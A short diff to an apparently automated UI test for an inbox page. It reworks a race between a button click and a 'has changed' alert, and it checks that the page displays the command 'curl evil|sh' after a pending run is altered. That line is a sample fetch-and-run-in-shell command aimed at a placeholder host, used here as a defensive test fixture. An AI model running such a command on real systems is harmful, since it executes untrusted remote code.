@@ -72,8 +72,11 @@ describe('the inbox', () => {
       await button.waitFor();
       await picture(page, `inbox-${form}`);
       await run.change();
-      await button.click();
-      await question.getByRole('alert').getByText('has changed').waitFor();
+      const changed = question.getByRole('alert').getByText('has changed');
+      // The page may have noticed it before the click, and then has no such button any more.
+      await button.or(changed).first().waitFor();
+      await Promise.race([button.click().catch(() => {}), changed.waitFor()]);
+      await changed.waitFor();
       await question.locator('pre').getByText('curl evil|sh').waitFor();
       await picture(page, `inbox-${form}-changed`);
       expect(await run.answers()).toEqual([]);
